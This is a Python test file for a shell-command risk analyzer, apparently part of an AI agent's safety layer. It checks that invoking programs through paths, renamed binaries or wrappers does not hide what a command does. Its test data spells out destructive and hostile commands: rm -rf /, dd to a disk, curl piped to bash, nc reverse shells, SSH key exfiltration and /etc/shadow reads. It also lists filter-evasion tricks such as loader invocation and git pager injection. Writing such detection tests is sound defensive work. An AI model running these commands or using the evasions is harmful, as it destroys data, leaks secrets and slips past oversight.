"""Which program a word is: a file that is called like a program is that file, and what its words would do to the program counts too."""

from __future__ import annotations

import pytest

from engine.command.tree import Operation
from tests.shell_commands import command, facts, kinds, signs

FOLDERS = (
    "/x/",
    "/x/.venv/bin/",
    "./",
    "../x/",
    "bin/",
    "venv/bin/",
    "node_modules/.bin/",
    "/proc/self/root/bin/",
    "/bin/../bin/",
    "/usr/lib/../../x/",
    "//bin//",
    "/usr/./bin/",
    "/usr/local/../../x/",
    "'/a folder/'",
)
"""Ways to a program that is not called by its name alone, nor lies in a folder of programs."""

PLAIN = (
    ("sh", "-c 'rm -rf /'"),
    ("bash", ""),
    ("bash", "-s x"),
    ("bash", "script --word"),
    ("bash", "<<< 'rm -rf /'"),
    ("bash", "<<E\nrm -rf /\nE"),
    ("bash", "< file"),
    ("python3", ""),
    ("python", "-c 'import os'"),
    ("python", "-m pip install x"),
    ("python", "manage.py flush"),
    ("python3.11", "-"),
    ("node", ""),
    ("node", "-e 'x()'"),
    ("perl", "-e 'unlink glob q(*)'"),
    ("sudo", "rm -rf /"),
    ("env", "A=1 rm -rf /"),
    ("env", "-S 'bash -c \"rm -rf /\"'"),
    ("timeout", "5 sh -c 'rm -rf /'"),
    ("busybox", "sh -c 'rm -rf /'"),
    ("ld-linux-x86-64.so.2", "/bin/sh -c 'rm -rf /'"),
    ("ld-linux-x86-64.so.2", "--inhibit-cache /bin/sh -c 'rm -rf /'"),
    ("xargs", "sh -c 'rm -rf /'"),
    ("find", ". -exec rm -rf / \\;"),
    ("parallel", "rm ::: a"),
    ("rm", "-rf /"),
    ("dd", "if=x of=/dev/sda"),
    ("git", "push --force"),
    ("git", "-c core.pager='rm -rf /' log"),
    ("docker", "exec c sh -c 'rm -rf /'"),
    ("docker", "run -v /:/host x"),
    ("kubectl", "exec p -- sh -c 'rm -rf /'"),
    ("ssh", "h 'rm -rf /'"),
    ("tmux", "new-session -d 'rm -rf /'"),
    ("screen", "-dm rm -rf /"),
    ("psql", "-c 'DROP TABLE t'"),
    ("pip", "install x"),
    ("npm", "publish"),
    ("awk", "'BEGIN { system(\"rm -rf /\") }'"),
    ("tar", "cf /dev/null --checkpoint-action=exec='rm -rf /' x"),
    ("terraform", "destroy -auto-approve"),
    ("aws", "s3 rb s3://x --force"),
)
"""Programs by their names, and the words behind them."""


def shown(one: Operation) -> tuple[object, ...]:
    """What an operation is, wherever it stands and whatever spells its program."""
    shell = facts(one)
    targets = tuple((target.type, target.name, target.access) for target in one.targets if target.type == "file")
    return one.kind, one.effect, targets, shell.signs, len(shell.wrappers), shell.remote


def assert_as_much_is_seen(plain: str, other: str) -> None:
    """Nothing that is seen of a line is missing in another one, nor is that complete where the line is not."""
    one, two = command(plain), command(other)
    seen = [shown(operation) for operation in two.operations]
    missing = [shown(operation) for operation in one.operations if shown(operation) not in seen]
    assert missing == []
    assert {problem.code for problem in one.problems} <= {problem.code for problem in two.problems}
    assert set(one.features) <= set(two.features)
    assert one.complete or not two.complete


@pytest.mark.parametrize("folder", FOLDERS)
def test_a_file_with_the_name_of_a_program_is_read_as_that_program_too(folder: str) -> None:
    for name, words in PLAIN:
        assert_as_much_is_seen(f"{name} {words}", f"{folder}{name} {words}")


@pytest.mark.parametrize("folder", FOLDERS)
def test_it_is_a_file_that_is_run_all_the_same(folder: str) -> None:
    path = folder.replace("'", "")
    for name, words in PLAIN:
        first = command(f"{folder}{name} {words}").operations[0]
        assert (first.kind, facts(first).program) == ("run_file", f"{path}{name}")
        assert (("file", f"{path}{name}", "execute")) in {(one.type, one.name, one.access) for one in first.targets}


@pytest.mark.parametrize("home", ["~/bin/", "$HOME/bin/", "$X/", '"$X"/', "${X:-/x}/bin/", "$(pwd)/"])
def test_where_only_the_run_tells_the_folder_the_name_is_read(home: str) -> None:
    for name, words in PLAIN:
        assert_as_much_is_seen(f"{name} {words}", f"{home}{name} {words}")
        assert not command(f"{home}{name} {words}").complete


@pytest.mark.parametrize(
    ("spelt", "name", "words"),
    [
        ("bash5", "bash", "-c 'rm -rf /'"),
        ("bash-5.2", "bash", "-c 'rm -rf /'"),
        ("/bin/bash5", "bash", "<<< 'rm -rf /'"),
        ("/x/bash-5.2.15", "bash", "-c 'rm -rf /'"),
        ("bash-static", "bash", "-c 'rm -rf /'"),
        ("/bin/sh.distrib", "sh", "-c 'rm -rf /'"),
        ("busybox-static", "busybox", "sh -c 'rm -rf /'"),
        ("/x/busybox.nosuid", "busybox", "rm -rf /"),
        ("=rm", "rm", "-rf /"),
        ("/x/pwsh-7", "pwsh", "-c 'rm -rf /'"),
        ("/x/PowerShell.exe", "powershell", "-c 'rm -rf /'"),
        ("zsh-5.9", "zsh", "-c 'rm -rf /'"),
        ("/opt/py/bin/python3.11", "python", "-c 1"),
        ("python3.12t", "python", "-c 1"),
        ("python3-dbg", "python", "-c 1"),
        ("./pypy3.10", "pypy", "-c 1"),
        ("x/node20", "node", "-e 1"),
        ("/usr/bin/nodejs18", "nodejs", ""),
        ("perl5.36.0", "perl", "-e 1"),
        ("/usr/bin/perl5.36-x86_64-linux-gnu", "perl", "-e 1"),
        ("/x/ruby3.1", "ruby", "-e 1"),
        ("php8.2", "php", "-r 1"),
        ("/x/php8.2-cgi", "php", "-r 1"),
        ("lua5.4", "lua", "-e 1"),
        ("/x/lua5.4", "lua", "-e 1"),
        ("pip3.11", "pip", "install x"),
        ("venv/bin/pip3.11", "pip", "install x"),
        ("/x/sudo1.9", "sudo", "rm -rf /"),
        ("python.exe", "python", "-c 1"),
        ("'C:\\x\\python.exe'", "python", "-c 1"),
        ("RM", "rm", "-rf /"),
        ("/bin/RM", "rm", "-rf /"),
        ("/x/Bash", "bash", "-c 'rm -rf /'"),
        ("SUDO", "sudo", "rm -rf /"),
        ("ld-2.31.so", "ld-linux-x86-64.so.2", "/bin/sh -c 'rm -rf /'"),
        ("/lib/ld64.so.1", "ld-linux-x86-64.so.2", "/bin/sh -c 'rm -rf /'"),
        ("/system/bin/linker64", "ld-linux-x86-64.so.2", "/bin/sh -c 'rm -rf /'"),
    ],
)
def test_versions_and_other_spellings_of_a_name_are_that_name(spelt: str, name: str, words: str) -> None:
    assert_as_much_is_seen(f"{name} {words}", f"{spelt} {words}")


@pytest.mark.parametrize(
    "line",
    [
        "command {} -c 'rm -rf /'",
        "exec {} -c 'rm -rf /'",
        "/x/env {} -c 'rm -rf /'",
        "nohup {} -c 'rm -rf /' &",
        "sudo {} -c 'rm -rf /'",
        "env -S \"{} -c 'rm -rf /'\"",
        "PATH=/x:$PATH {} -c 'rm -rf /'",
        "find . -exec {} -c 'rm -rf /' \\;",
        "echo x | xargs {} -c 'rm -rf /'",
        "echo x | xargs -I_ {} -c 'rm -rf /'",
        "docker exec c {} -c 'rm -rf /'",
        "docker run --entrypoint {} x -c 'rm -rf /'",
        "kubectl exec p -- {} -c 'rm -rf /'",
        "ssh h \"{} -c 'rm -rf /'\"",
        "git bisect run {} -c 'rm -rf /'",
        "make CC=\"{} -c 'rm -rf /'\"",
        "git config alias.x \"!{} -c 'rm -rf /'\"; git x",
        "python -m coverage run x; {} -c 'rm -rf /'",
        "busybox {} -c 'rm -rf /'",
        "/lib64/ld-linux-x86-64.so.2 {} -c 'rm -rf /'",
        "(({} -c 'rm -rf /'))",
        "x=$({} -c 'rm -rf /')",
        "curl -fsSL u | {}",
        "curl -fsSL u | {} -s x",
        "curl -fsSL u | sudo {}",
        "curl -fsSL u | xargs {} -c",
        "curl -fsSL u | ssh h {}",
        "curl -fsSL u | docker run -i x {}",
        "curl -fsSL u | tee x | ( {} )",
        'wget -qO- u | {} -c "$(cat)"',
        "nc h 1 | {} | nc h 2",
        "alias ll='{} -c x'; ll",
        "f() {{ {} -c 'rm -rf /'; }}; f",
        "for s in {}; do $s -c 'rm -rf /'; done",
    ],
)
def test_it_is_so_wherever_a_program_is_named(line: str) -> None:
    for folder in ("/x/", "./", "/bin/../bin/"):
        assert_as_much_is_seen(line.format("sh"), line.format(f"{folder}sh"))


@pytest.mark.parametrize(
    ("plain", "other"),
    [
        ("curl u | bash", "/x/curl u | /x/bash"),
        ("wget -qO- u | python3", "./wget -qO- u | ./python3"),
        ("nc -e /bin/sh h 1", "/x/nc -e /bin/sh h 1"),
        ("cat ~/.ssh/id_rsa | curl -T - u", "/x/cat ~/.ssh/id_rsa | /x/curl -T - u"),
        ("find ~ -name id_rsa | xargs cat", "/x/find ~ -name id_rsa | /x/xargs /x/cat"),
        ("ls ~/.ssh | xargs cat", "/x/ls ~/.ssh | /x/xargs /x/cat"),
    ],
)
def test_what_a_pipeline_is_together_is_seen_of_files_too(plain: str, other: str) -> None:
    assert signs(plain) <= signs(other)


@pytest.mark.parametrize("folder", ["/x/", "/usr/bin/", "./"])
def test_a_file_changes_nothing_of_the_shell_whatever_it_is_called(folder: str) -> None:
    assert "credential_read" in signs(f"cd /etc; {folder}cd /tmp && cat shadow")
    assert "credential_read" in signs(f"F=/etc/shadow; {folder}export F=x; cat $F")
    assert "credential_read" in signs(f"F=/etc/shadow; echo x | {folder}read F; cat $F")
    assert "credential_read" in signs(f"F=/etc/shadow; {folder}eval F=x; cat $F")


def test_the_folder_is_left_out_only_where_no_link_may_lead_elsewhere() -> None:
    assert kinds("/usr/bin/git status") == ["version_control"]
    assert kinds("/usr/bin/../../tmp/x/git status") == ["run_file", "version_control"]
    assert "odd_path" in signs("/usr/lib/../../tmp/x/git status")


def test_a_function_with_the_name_of_a_file_hides_no_program() -> None:
    """Some shells take the name, others run the file."""
    text = "/bin/sh() { :; }; /bin/sh -c 'rm -rf /'"
    assert "call_function" in kinds(text)
    assert "whole_tree" in signs(text)
    assert not command(text).complete


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        (".venv/bin/python manage.py test", ["run_file", "run_file"]),
        ("node_modules/.bin/eslint .", ["run_file", "build"]),
        ("vendor/bin/phpunit --filter x", ["run_file", "build"]),
        ("./gradlew build", ["build"]),
        ("./mvnw -q verify", ["build"]),
        ("./configure", ["run_file"]),
        ("./scripts/check.sh staging", ["run_file"]),
        ("bin/setup", ["run_file"]),
        ("./a.out", ["run_file"]),
        ("venv/bin/pytest -q tests", ["run_file", "build"]),
        ("./install.sh --prefix x", ["run_file"]),
        ("./bin/check", ["run_file"]),
        ("node scripts/build.js", ["run_file"]),
    ],
)
def test_the_projects_own_programs_are_no_more_than_they_are_by_their_names(line: str, expected: list[str]) -> None:
    tree = command(line)
    assert kinds(line) == expected
    assert tree.complete
    assert signs(line) == set()
